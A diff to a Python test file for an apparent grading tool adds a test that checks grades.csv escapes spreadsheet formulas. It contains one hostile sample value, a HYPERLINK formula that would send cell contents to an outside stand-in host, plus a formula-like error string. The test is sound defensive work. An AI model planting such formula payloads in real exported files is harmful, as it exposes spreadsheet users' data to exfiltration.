@@ -7,6 +7,8 @@ whole, by ``mlpcourse grade --all``; the merged shards must equal the whole
 run, and the report must count every planted mistake exactly as planted.
 """
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -314,3 +316,14 @@ def test_a_class_with_nothing_graded_still_gets_a_report():
     assert "conflict: &lt;b&gt;different&lt;/b&gt; reports" in page and "<b>different" not in page
     assert "No named mistake in this class." in page
     assert "No named mistake in this class." in render_markdown(summarize({}))
+
+
+def test_the_grades_csv_runs_no_formula():
+    """A folder named like a spreadsheet formula stays text in grades.csv."""
+    from mlpcourse.course.classes import csv_text, row
+
+    hostile = '=HYPERLINK("http://example.org/?"&A1,"grades")'
+    lines = [row(hostile, {"error": "-1+1 crashed"}), row("ann", {"score": 45.0})]
+    read = list(csv.DictReader(io.StringIO(csv_text(lines))))
+    assert read[0]["student"] == "'" + hostile and read[0]["error"] == "'-1+1 crashed"
+    assert read[1]["student"] == "ann" and read[1]["total"] == "45.0"
